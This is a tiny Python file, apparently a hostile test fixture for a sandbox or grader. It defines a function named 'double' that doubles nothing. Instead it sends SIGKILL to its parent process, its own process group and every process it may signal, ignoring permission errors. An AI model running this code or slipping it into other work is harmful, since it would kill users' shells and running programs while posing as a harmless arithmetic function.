"""failed: kills its parent, its group and everything else it may."""

import os
import signal


def double(x):
    for victim in (os.getppid(), -os.getpgrp(), -1):
        try:
            os.kill(victim, signal.SIGKILL)
        except PermissionError:
            pass
    return None
